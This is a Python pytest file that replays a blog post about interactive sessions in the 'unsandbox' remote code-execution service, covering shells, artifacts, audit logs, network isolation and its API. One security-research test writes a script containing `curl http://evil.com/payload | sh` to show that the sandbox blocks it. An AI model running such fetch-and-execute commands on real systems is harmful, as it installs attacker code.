"""The post that announced sessions, followed from top to bottom: what is typed in it is typed here, and the screen
shows what it shows, but for what docs/compatibility.md lists.

Commands are typed in a shell of this machine, in a terminal of its own; calls go to the farm's port.  Sections are
named as in the post.
"""

import base64
import gzip
import os
import pathlib
import re
import subprocess
import time

import pytest

from farm import BUILD, PUBLIC, SECRET, Farm, wait_for
from screen import LocalScreen
from terminal import Terminal

UN = pathlib.Path(os.environ.get("UN_BIN", BUILD / "un"))
SECONDS = 60  # only a test that fails ever waits so long
CTRL_A, CTRL_B, CTRL_L, ESC, UP = b"\x01", b"\x02", b"\x0c", b"\x1b", b"\x1b[A"
HERE = r"\$ "  # the prompt of this machine
THERE = r"root@unsb-vm-\d{5}:~\$ "
PYTHON = r">>> "
# What a line of the post begins with when the rest of it is typed.
TYPED = re.compile(r"(\$|>>>|>|root@[\w-]+:~\$) ")
DOT = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR42mNgAAAAAgAB5Sfe/AAAAABJRU5ErkJggg==")


@pytest.fixture(scope="module")
def farm():
    conf = {"sessiond": {"grace_seconds": 1, "artifacts_mb": 4}}
    daemons = ("scheduler", "worker", "sessiond", "gateway")
    with Farm(daemons=daemons, languages=["bash", "python", "c"], conf=conf) as started:
        started.wait_languages("python", "c")
        wait_for("a node for sessions", lambda: started.redis("HLEN", "{unfarm}:room") == "1")
        wait_for("its shells", lambda: shells(started))
        yield started


@pytest.fixture(autouse=True)
def none_left(farm):
    yield
    farm.end_sessions()


def shells(farm):
    return farm.get("/shells", sign=False).json()["shells"]


def create(farm, **wish):
    made = farm.post("/sessions", wish)
    assert made.status_code == 200, made.text
    return made.json()


def end(farm, session, query=""):
    """What it left."""
    answer = farm.delete(f"/sessions/{session}{query}").json()
    assert answer["success"] is True
    return {a["filename"]: base64.b64decode(a["content_base64"]) for a in answer["artifacts"]}


def state(farm, session):
    return farm.get(f"/sessions/{session}").json()["status"]


def viewers(farm, session):
    return farm.get(f"/sessions/{session}").json()["viewers"]


class Desk(LocalScreen):
    """A user's own shell, with `un` in its PATH and the keys of a farm."""

    def __init__(self, farm, folder, *, keys=True):
        self.row = -1  # where something was typed last
        env = {"PATH": f"{UN.parent}:/usr/local/bin:/usr/bin:/bin", "HOME": str(folder), "TERM": "xterm-256color",
               "LANG": "C.UTF-8", "PS1": "$ ", "PS2": "> ", "HISTFILE": "/dev/null", "UNSANDBOX_API_BASE": farm.url}
        if keys:
            env |= {"UNSANDBOX_PUBLIC_KEY": PUBLIC, "UNSANDBOX_SECRET_KEY": SECRET}
        super().__init__(["bash", "--norc", "--noprofile", "-i"], env=env, cwd=folder, cols=110, rows=40)
        self.wait(HERE)

    def until(self, test, seconds=SECONDS):
        super().until(test, seconds)

    @property
    def here(self):
        """The cursor's line, up to it."""
        x, y = self.cursor
        return "".join(self.screen.buffer[y][i].data for i in range(x))

    @property
    def shown(self):
        """All above the cursor."""
        return self.lines[:self.cursor[1]]

    def wait(self, prompt, *, anywhere=False):
        """Until there is that prompt, below what was typed last, or anywhere: a program may paint from the top."""
        row = -1 if anywhere else self.row
        self.until(lambda: self.cursor[1] > row and re.fullmatch(prompt, self.here))

    def clear(self):
        """By the shell that waits: what it shows from now on begins in the first row."""
        self.type(CTRL_L)
        self.until(lambda: self.cursor[1] == 0)
        self.row = -1

    def enter(self, line):
        self.row = self.cursor[1]
        self.type(line.encode() + b"\r")

    def run(self, line, prompt=HERE):
        """What a line shows, until that prompt comes again."""
        self.enter(line)
        self.wait(prompt)
        return self.lines[self.row + 1:self.cursor[1]]

    def press(self, *keys):
        """One after the other, as by hand: tmux takes what comes within a millisecond for pasted text."""
        for key in keys:
            time.sleep(0.05)
            self.type(key)


@pytest.fixture
def desk(farm, tmp_path):
    shown = Desk(farm, tmp_path)
    yield shown
    shown.close()


def normal(lines):
    """Names, ids and sizes are others than in the post, and artifacts come in any order."""
    text = "\n".join(line.rstrip() for line in lines)
    text = re.sub(r"unsb-session-[0-9a-f]{20}(\.\.\.)?|\b(abc|def)\d{3}\.\.\.", "ID", text)
    text = re.sub(r"unsb-vm-\d{5}|\bsandbox(-abc123|-xyz)?\b", "BOX", text)
    text = re.sub(r"\(\d+ bytes\)", "(N bytes)", text)
    saved = iter(sorted(re.findall(r"^Artifact saved: .*", text, re.M)))
    return re.sub(r"^Artifact saved: .*", lambda _: next(saved), text, flags=re.M)


# Bash says that it leaves, as everywhere.
ALWAYS = {f"root@{name}:~$ exit": f"root@{name}:~$ exit\nexit" for name in ("sandbox", "unsb-vm-12345")}


def play(desk, block, instead=None, *, last=HERE):
    """
    Types what a block of the post types, at the prompts that it shows; the screen must then be the block.
    instead: what we show in place of a line of the post, and what is typed in place of it.
    """
    shown = [text for line in block.strip("\n").split("\n") for text in (ALWAYS | (instead or {})).get(line, line).split("\n")]
    desk.clear()
    for line in shown:
        if prompt := TYPED.match(line):
            desk.wait(THERE if prompt[1].startswith("root@") else re.escape(prompt[0]))
            desk.enter(line[prompt.end():])
    desk.wait(last)
    assert normal(desk.shown) == normal(shown)


def put(folder, files):
    for name, text in files.items():
        (folder / name).write_text(text)


# ---- The Evolution: From Execute to Session ----


def test_send_code_get_output(farm):
    """POST /execute -> { stdout, stderr, exit_code }"""
    code = "import sys\nprint(6 * 7)\nprint('no', file=sys.stderr)\nsys.exit(3)"
    answer = farm.post("/execute", {"language": "python", "code": code}).json()
    assert (answer["stdout"], answer["stderr"], answer["exit_code"]) == ("42\n", "no\n", 3)


# ---- Execute a Script ----

SCRIPTS = {
    "data.csv": "a,b\n1,2\n",
    "config.json": '{"column": "b"}',
    "script.py": "import os\nprint(os.environ.get('DEBUG'), os.listdir('/tmp/input'))\n",
    "process.py": "import csv, json, os\nname = '/tmp/input/config.json'\n"
                  "column = json.load(open(name))['column'] if os.path.exists(name) else 'a'\n"
                  "print([row[column] for row in csv.DictReader(open('/tmp/input/data.csv'))])\n",
    "main.c": '#include <stdio.h>\nint main(void) {\n\tFILE *f = fopen("/tmp/artifacts/results.csv", "w");\n'
              '\tif (f) { fputs("x,y\\n", f); fclose(f); }\n\tputs("compiled");\n}\n',
}


def test_execute_a_script(desk, tmp_path):
    """Also those of the picture above them, and of the Quick Reference."""
    put(tmp_path, SCRIPTS)
    play(desk, """
$ un script.py
None []
$ un -f data.csv -f config.json process.py
['2']
$ un -a -o ./bin main.c
compiled
Artifact saved: ./bin/main (20000 bytes)
Artifact saved: ./bin/results.csv (4 bytes)
$ un script.py -f data.csv
None ['data.csv']
$ un -e DEBUG=1 script.py
1 []
$ un -f data.csv process.py
['1']
""")
    assert (tmp_path / "bin/results.csv").read_text() == "x,y\n"
    assert (tmp_path / "bin/main").read_bytes().startswith(b"\x7fELF") and os.access(tmp_path / "bin/main", os.X_OK)


# ---- Interactive Sessions ----

PICKED = [
    ("", "bash", THERE, "exit"),
    (" --shell zsh", "zsh", r"unsb-vm-\d{5}# ", "exit"),
    (" --shell fish", "fish", r".*# ", "exit"),
    (" --shell python3", "python3", PYTHON, "exit()"),
    (" --shell node", "node", "> ", ".exit"),
    (" --shell julia", "julia", "julia> ", "exit()"),
]


def test_pick_your_shell(farm, desk):
    """One that is not on the farm is refused before anything begins."""
    there = shells(farm)
    for how, name, prompt, leave in PICKED:
        desk.clear()
        if name in there:
            desk.run("un session" + how, prompt)
            assert desk.shown[1] == "Connecting to unsandbox... done", how
            assert desk.run(leave)[-1] == "Session ended.", how
        else:
            assert desk.run("un session" + how) == [
                "Connecting to unsandbox... failed", "Error: HTTP 400",
                f"`shell` {name} is not installed on this farm: GET /shells lists what there is"]
            assert desk.run("echo $?") == ["1"]


def test_what_you_get(farm, desk, tmp_path):
    """Colours and cursor positioning, tab completion, history, resizing, vim; but no tmux underneath."""
    put(tmp_path, {"data.csv": "a,b\n"})
    desk.run("un session -f data.csv", THERE)
    desk.run(r"printf '\033[31mred\033[5Gx\n'", THERE)
    y = desk.row + 1
    assert desk.screen.buffer[y][0].fg == "red" and desk.lines[y] == "red x"
    desk.row = desk.cursor[1]
    desk.type(b"cat /tmp/input/da\t")
    desk.until(lambda: desk.here.endswith("cat /tmp/input/data.csv "))
    assert desk.run("", THERE) == ["a,b"]
    desk.type(UP)
    desk.until(lambda: desk.here.endswith("cat /tmp/input/data.csv "))
    assert desk.run("", THERE) == ["a,b"]
    assert desk.run('echo "[$TMUX$STY]"', THERE) == ["[]"]
    desk.resize(100, 33)
    desk.until(lambda: desk.run("stty size", THERE) == ["33 100"])
    desk.enter("vim test.py")
    desk.until(lambda: "test.py" in desk.lines[-1])
    desk.type(b"iprint(6 * 7)" + ESC)
    desk.until(lambda: "1,12" in desk.lines[-1])
    desk.resize(90, 30)
    desk.until(lambda: desk.lines[0] == "print(6 * 7)" and desk.lines[28] == "~" and "1,12" in desk.lines[29])
    desk.type(b":wq\r")
    desk.wait(THERE, anywhere=True)
    desk.clear()
    assert desk.run("python3 test.py", THERE) == ["42"]
    assert desk.run("exit") == ["exit", "Session ended."]


NAMES = """
bash, dash, sh, zsh, fish, ksh, tcsh, csh, elvish, xonsh, ash
python3, bpython, ipython
node
ruby, irb
lua
php
perl
guile, scheme
ghci
erl, iex
sbcl, clisp
r
julia
clojure
"""


def test_available_shells(farm):
    """Each name is known, and begins when the farm has it; test_shells.py talks to them."""
    there = [*shells(farm), *(["ruby"] if "irb" in shells(farm) else [])]
    for name in re.findall(r"\w+", NAMES):
        made = farm.post("/sessions", {"shell": name})
        if name in there:
            assert made.status_code == 200, made.text
            end(farm, made.json()["id"])
        else:
            assert made.status_code == 400 and "is not installed on this farm" in made.json()["error"], made.text


def test_python_repl_in_the_cloud(desk):
    play(desk, """
$ un session --shell python3
Connecting to unsandbox... done
>>> import numpy as np
>>> np.random.seed(42)
>>> np.random.randn(3, 3)
array([[ 0.49671415, -0.1382643 ,  0.64768854],
       [ 1.52302986, -0.23415337, -0.23413696],
       [ 1.57921282,  0.76743473, -0.46947439]])
>>> exit()
Session ended.
""")


# ---- Session Persistence: Your Choice ----


def test_by_default_it_terminates(farm, desk):
    play(desk, """
$ un session
root@unsb-vm-12345:~$ exit
Session ended.
""", {"$ un session": "$ un session\nConnecting to unsandbox... done"})
    assert farm.get("/sessions").json()["sessions"] == []


@pytest.mark.parametrize("how, keys, says", [
    ("--tmux", (CTRL_B, b"d"), r"\[detached \(from session main\)\]"),
    ("--screen", (CTRL_A, b"d"), r"\[(remote )?detached from \d+\.main\]"),
])
def test_a_multiplexer_lets_it_persist(farm, desk, how, keys, says):
    """What the table says of it, too: an exit ends it."""
    desk.enter(f"un session {how}")
    desk.wait(THERE, anywhere=True)
    name = farm.get("/sessions").json()["sessions"][0]["container_name"]
    desk.run("# Press Ctrl+b then d to detach", THERE)
    desk.press(*keys)
    desk.wait(HERE, anywhere=True)
    assert desk.shown[-1] == f"Session detached. Reconnect with: un session --attach {name}"
    assert re.fullmatch(says, desk.shown[-2]), desk.text
    assert state(farm, name) == "running"
    desk.clear()
    desk.enter(f"un session --attach {name}")
    desk.until(lambda: "# Press Ctrl+b" in desk.text)
    desk.wait(THERE, anywhere=True)
    desk.enter("exit")
    desk.wait(HERE, anywhere=True)
    assert desk.shown[-1] == "Session ended."
    assert farm.get("/sessions").json()["sessions"] == []


@pytest.mark.parametrize("how, after", [("", "terminated"), (" --tmux", "running"), (" --screen", "running")])
def test_session_behaviour_on_disconnect(farm, tmp_path, how, after):
    """The window is closed."""
    desk = Desk(farm, tmp_path)
    desk.enter("un session" + how)
    desk.wait(THERE, anywhere=True)
    session = farm.get("/sessions").json()["sessions"][0]["id"]
    desk.close()
    wait_for("nobody to look", lambda: viewers(farm, session) == 0)
    if after == "terminated":
        wait_for("its end", lambda: farm.get("/sessions").json()["sessions"] == [])
    else:
        assert state(farm, session) == after


# ---- Managing Persistent Sessions ----


def test_managing_persistent_sessions(farm, desk):
    two = [create(farm, shell=shell, persist=True) for shell in ("bash", "python3")]
    name = two[0]["container_name"]
    shown = desk.run("un session --list")
    assert shown[0:2] == ["Active sessions: 2", ""]
    assert shown[2] == "SESSION ID                               CONTAINER            SHELL      TTL      STATUS"
    assert re.fullmatch("[- ]+", shown[3])
    rows = [line.split() for line in shown[4:]]
    assert sorted(row[:3] for row in rows) == sorted([s["id"], s["container_name"], s["shell"]] for s in two)
    assert all(re.fullmatch(r"59m\d+s|1h0m", row[3]) and row[4] == "running" for row in rows)

    real = {"$ un session --attach unsb-vm-56789": f"$ un session --attach {name}",
            "$ un session --kill unsb-vm-56789": f"$ un session --kill {name}"}
    play(desk, """
$ un session --attach unsb-vm-56789
Reconnecting to session abc123... done
root@unsb-vm-56789:~$ echo "still here!"
still here!
""", real, last=THERE)
    desk.press(b"\r", b"~", b".")
    desk.wait(HERE)
    play(desk, """
$ un session --kill unsb-vm-56789
Terminating session abc123... done
Session terminated successfully
""", real)
    assert [s["id"] for s in farm.get("/sessions").json()["sessions"]] == [two[1]["id"]]


# ---- Artifact Extraction: Get Your Data Out ----


def files_of(folder):
    """By name, without the container's."""
    return {re.sub(r"-unsb-vm-\d{5}", "", path.name): path.read_bytes() for path in folder.iterdir()}


def test_artifact_extraction(desk, tmp_path):
    quoted = ["import json", "with open('/tmp/artifacts/results.json', 'w') as f:", "    json.dump({'answer': 42}, f)", '"']
    play(desk, """
$ un session -a -o ./outputs
Connecting to unsandbox... done
root@sandbox:~$ python3 -c "
import json
with open('/tmp/artifacts/results.json', 'w') as f:
    json.dump({'answer': 42}, f)
"
root@sandbox:~$ echo "hello" > /tmp/artifacts/notes.txt
root@sandbox:~$ exit
Session ended.
Artifact saved: results-sandbox-abc123.json (16 bytes)
Artifact saved: notes-sandbox-abc123.txt (6 bytes)
""", {line: "> " + line for line in quoted} | {
        "Artifact saved: results-sandbox-abc123.json (16 bytes)": "Artifact saved: ./outputs/results-sandbox-abc123.json (14 bytes)",
        "Artifact saved: notes-sandbox-abc123.txt (6 bytes)": "Artifact saved: ./outputs/notes-sandbox-abc123.txt (6 bytes)"})
    assert files_of(tmp_path / "outputs") == {"results.json": b'{"answer": 42}', "notes.txt": b"hello\n"}
    assert "notes-unsb-vm-" in desk.text and "(6 bytes)" in desk.text and "(14 bytes)" in desk.text


def test_artifact_features(desk, tmp_path):
    """Binary and empty files; a second session does not clobber the first one's."""
    for _ in range(2):
        desk.clear()
        desk.run("un session -a", THERE)
        desk.run(r"cd /tmp/artifacts; printf '\000\377' > image.bin; touch done", r"root@unsb-vm-\d{5}:/tmp/artifacts\$ ")
        desk.run("exit")
    assert files_of(tmp_path) == {"image.bin": b"\0\xff", "done": b""} and len(list(tmp_path.iterdir())) == 4


# ---- Auditing: Record Everything ----


def test_auditing(desk, tmp_path):
    desk.run("un session --audit -o ./logs", THERE)
    assert desk.shown == ["$ un session --audit -o ./logs", "Connecting to unsandbox... done"]
    desk.enter("vim test.py   # Full vim session recorded")
    desk.until(lambda: "test.py" in desk.lines[-1])
    desk.type(b"iprint('Hello, world!')" + ESC + b":wq\r")
    desk.wait(THERE, anywhere=True)
    play(desk, """
root@sandbox:~$ python3 test.py
Hello, world!
root@sandbox:~$ exit
Session ended.
Artifact saved: session.log-sandbox-abc123.gz (45678 bytes)
Artifact saved: bash_history-sandbox-abc123 (234 bytes)
Tip: Replay session with: zcat session.log*.gz | less -R
""", {
        "Artifact saved: session.log-sandbox-abc123.gz (45678 bytes)":
            "Artifact saved: ./logs/session.log-sandbox-abc123.gz (45678 bytes)\n"
            "Artifact saved: ./logs/session-sandbox-abc123.timing (1 bytes)\n"
            "Artifact saved: ./logs/session-sandbox-abc123.cast (1 bytes)\n"
            "Artifact saved: ./logs/session-sandbox-abc123.chain (1 bytes)",
        "Artifact saved: bash_history-sandbox-abc123 (234 bytes)": "Artifact saved: ./logs/bash_history-sandbox-abc123 (234 bytes)",
        "Tip: Replay session with: zcat session.log*.gz | less -R": "Tip: Replay session with: zcat ./logs/session.log*.gz | less -R",
    })
    saved = [re.sub(r"-unsb.*", "", line) for line in desk.shown if line.startswith("Artifact saved:")]
    assert saved[0].endswith("/session.log") and saved[-1].endswith("/bash_history")
    kept = files_of(tmp_path / "logs")
    assert kept["bash_history"].decode().split("\n")[:2] == ["vim test.py   # Full vim session recorded", "python3 test.py"]
    log = gzip.decompress(kept["session.log.gz"])
    assert b"\x1b[?1049h" in log and b"Hello, world!\r\n" in log and b"exit\r\n" in log

    desk.enter(desk.shown[-1].removeprefix("Tip: Replay session with: "))
    desk.until(lambda: "Script started on" in desk.text)
    desk.type(b"q")
    desk.wait(HERE, anywhere=True)

    (tmp_path / "session.log").write_bytes(log)
    (tmp_path / "timing.log").write_bytes(kept["session.timing"])
    replayed = subprocess.run(["scriptreplay", "-d", "1000", "-t", "timing.log", "-s", "session.log"], cwd=tmp_path, capture_output=True,
                              check=True).stdout
    assert b"Hello, world!\r\n" in replayed and b"\x1b[?1049h" in replayed


@pytest.mark.parametrize("create_audit, end_audit, kept", [
    (True, False, {"session.log.gz", "session.timing", "session.cast", "session.chain"}),
    (False, True, {"bash_history"}),
    (True, True, {"session.log.gz", "session.timing", "session.cast", "session.chain", "bash_history"}),
    (False, False, set()),
])
def test_what_gets_recorded(farm, create_audit, end_audit, kept):
    session = create(farm, audit=create_audit)["id"]
    t = Terminal(farm, session)
    t.until(b"$ ")
    t.type(b"echo reco''rded\r")
    t.until(b"recorded\r\n")
    t.type(b"\r")
    t.until(lambda: t.output.count(b"$ ") >= 3)
    files = end(farm, session, "?audit=1" if end_audit else "")
    assert files.keys() == kept
    if end_audit:
        assert files["bash_history"] == b"echo reco''rded\n"


# ---- Security: Same Zero-Trust Model ----


def test_network_isolation(desk):
    desk.run("un session", THERE)
    play(desk, """
root@sandbox:~$ curl google.com
curl: (6) Could not resolve host: google.com
root@sandbox:~$ ping 8.8.8.8
ping: connect: Network is unreachable
""", {"ping: connect: Network is unreachable": "ping: socktype: SOCK_RAW\nping: socket: Operation not permitted"}, last=THERE)


def test_network_access_is_not_there_yet(farm, desk):
    """Nor, with it, the second use case: pip, npm."""
    for how in ("-n semitrusted", "-n semitrusted --shell bash"):
        desk.clear()
        said = desk.run(f"un session {how}")
        assert said[:2] == ["Connecting to unsandbox... failed", "Error: HTTP 400"]
        assert said[2].startswith("`network_mode` semitrusted is not available"), said
        assert desk.run("echo $?") == ["1"]
    assert farm.get("/sessions").json()["sessions"] == []


def test_ephemeral_by_design(farm, desk):
    desk.run("un session", THERE)
    desk.run("touch /root/mine /usr/bin/mine /tmp/mine", THERE)
    desk.run("exit")
    desk.run("un session", THERE)
    assert desk.run("ls -A /root /tmp | grep mine; ls /usr/bin/mine", THERE) == ["ls: cannot access '/usr/bin/mine': No such file or directory"]


def test_resource_limits(farm):
    """Memory and CPU are capped: test_sessions.py looks at the groups.  Here: the disk, and the time."""
    s = create(farm, persist=True)
    assert (s["vcpu"], s["memory_mb"], s["idle_timeout"]) == (1, 2048, 3600)
    ran = farm.post(f"/sessions/{s['id']}/execute", {"command": "df -m --output=size / | tail -1"}).json()
    assert int(ran["stdout"]) == 1024, ran


# ---- API Reference ----

WISH = {"network_mode": "zerotrust", "ttl": 3600, "shell": "bash", "audit": True, "multiplexer": "tmux"}


def test_the_api(farm):
    s = create(farm, **WISH)
    session = s["session_id"]
    assert re.fullmatch(r"unsb-vm-\d{5}", s["container_name"]) and s["multiplexer"] == "tmux"
    assert s["websocket_url"] == f"/sessions/{session}/shell"
    assert (s["network_mode"], s["ttl"], s["shell"]) == ("zerotrust", 3600, "bash")
    assert farm.post("/sessions", WISH | {"ttl": 86401}).status_code == 400

    t = Terminal(farm, session)
    t.until(b"$ ")
    assert t.said == [{"type": "ready"}]
    t.type(b"echo '{}' > /tmp/artifacts/results.json; echo ma''de\r")
    t.until(b"made")
    t.drop()
    wait_for("nobody to look", lambda: viewers(farm, session) == 0)
    t = Terminal(farm, session)  # the same endpoint
    t.until(b"made")
    t.close()
    answer = farm.delete(f"/sessions/{session}?audit=1").json()
    assert answer["success"] is True
    assert [a["filename"] for a in answer["artifacts"]][:2] == ["results.json", "session.log.gz"]
    assert all(a.keys() == {"filename", "content_base64"} for a in answer["artifacts"])
    assert base64.b64decode(answer["artifacts"][0]["content_base64"]) == b"{}\n"


@pytest.mark.parametrize("multiplexer", [None, "screen"])
def test_multiplexer_behaviour(farm, multiplexer):
    """null: it ends when the WebSocket is closed; else the same endpoint is there again."""
    session = create(farm, **WISH | {"multiplexer": multiplexer})["id"]
    t = Terminal(farm, session)
    t.until(b"$ ")
    t.close()
    if multiplexer is None:
        wait_for("its end", lambda: state(farm, session) == "terminated")
        return
    wait_for("nobody to look", lambda: viewers(farm, session) == 0)
    t = Terminal(farm, session)
    t.until(b":~$")  # as screen paints it
    t.type(b"exit 3\r")
    assert t.end()["type"] == "exit"


# ---- Real-World Use Cases ----


def test_ai_agent_coding_sessions(farm):
    """With what Python has by itself in place of pandas; and recorded from the begin, as the result shows."""
    data = base64.b64encode(b"x,y\n1,2\n").decode()
    session = create(farm, shell="python3", audit=True, input_files=[{"filename": "data.csv", "content": data}])["id"]
    t = Terminal(farm, session)
    for line in ("import csv\n", "df = list(csv.reader(open('/tmp/input/data.csv')))\n",
                 "csv.writer(open('/tmp/artifacts/processed.csv', 'w')).writerows(df)\n"):
        t.until(lambda: t.output.endswith(b">>> "))
        t.output = b""
        t.type(line.encode())
    t.until(lambda: t.output.endswith(b">>> "))
    files = end(farm, session, "?audit=1")
    assert files["processed.csv"] == b"x,y\r\n1,2\r\n"
    assert b"import csv" in gzip.decompress(files["session.log.gz"])


def test_remote_development_environment(desk, tmp_path):
    """Without network, so without pip and npm; a model that is too large is said to be missing."""
    put(tmp_path, {"train.py": "open('model.pt', 'wb').write(b'weights')\nopen('large.pt', 'wb').truncate(5 << 20)\n"})
    play(desk, """
$ un session -a -f train.py
Connecting to unsandbox... done
root@sandbox:~$ python3 /tmp/input/train.py
root@sandbox:~$ cp model.pt large.pt /tmp/artifacts/
root@sandbox:~$ exit
Session ended.
Artifact saved: model-sandbox-xyz.pt (7 bytes)
un: artifacts were left out at a limit
""")
    assert files_of(tmp_path)["model.pt"] == b"weights"


def test_security_research(desk, tmp_path):
    put(tmp_path, {"suspicious.sh": "#!/bin/bash\ncurl http://evil.com/payload | sh  # Can't reach evil.com!\n"})
    desk.run("un session --audit -o ./analysis -f suspicious.sh", THERE)
    assert desk.run("cat /tmp/input/suspicious.sh", THERE) == ["#!/bin/bash", "curl http://evil.com/payload | sh  # Can't reach evil.com!"]
    said = "".join(desk.run("bash /tmp/input/suspicious.sh", THERE))  # behind curl's progress, over the end of a line
    assert said.endswith("curl: (6) Could not resolve host: evil.com")
    desk.run("exit")
    assert b"Could not resolve host: evil.com" in gzip.decompress(files_of(tmp_path / "analysis")["session.log.gz"])


STUDENT = f"""
$ un session --shell python3
Connecting to unsandbox... done
>>> # Follow along with the tutorial
>>> import base64
>>> n = open('/tmp/artifacts/plot.png', 'wb').write(base64.b64decode('{base64.b64encode(DOT).decode()}'))
>>> exit()
Session ended.
"""


def test_teaching_and_tutorials(desk, tmp_path):
    """A small picture in place of matplotlib's; it comes back with -a, and without that is said."""
    desk.resize(200, 40)
    play(desk, STUDENT + "Not saved: 1 file of /tmp/artifacts (-a saves it)")
    assert list(tmp_path.iterdir()) == []
    play(desk, STUDENT.replace("python3", "python3 -a", 1) + "Artifact saved: plot-sandbox-xyz.png (67 bytes)")
    assert files_of(tmp_path) == {"plot.png": DOT}


# ---- CLI Quick Reference ----


def test_a_repl_with_reconnect(farm, desk):
    """The one line that is nowhere else: un session --shell node --tmux"""
    if "node" not in shells(farm):
        pytest.skip("node is not installed")
    desk.enter("un session --shell node --tmux")
    desk.wait("> ", anywhere=True)
    desk.run("x = 6 * 7", "> ")
    desk.press(CTRL_B, b"d")
    desk.wait(HERE, anywhere=True)
    again = desk.shown[-1].removeprefix("Session detached. Reconnect with: ")
    desk.clear()
    desk.enter(again)
    desk.until(lambda: "x = 6 * 7" in desk.text)
    desk.wait("> ", anywhere=True)
    assert desk.run("x + 1", "> ")[0] == "43"


# ---- Try It Now ----


def test_try_it_now(farm, tmp_path):
    """A key of a farm is a pair; who has the one of the post is told so."""
    desk = Desk(farm, tmp_path, keys=False)
    desk.run("export UNSANDBOX_API_KEY=your_key_here")
    said = desk.run("un session --shell python3")
    assert said[0] == "Error: API credentials required." and said[-1].startswith("UNSANDBOX_API_KEY is not used: ")
    desk.run(f"export UNSANDBOX_PUBLIC_KEY={PUBLIC} UNSANDBOX_SECRET_KEY={SECRET}")
    desk.run("un session --shell python3", PYTHON)
    assert desk.run("exit()") == ["Session ended."]
    desk.close()
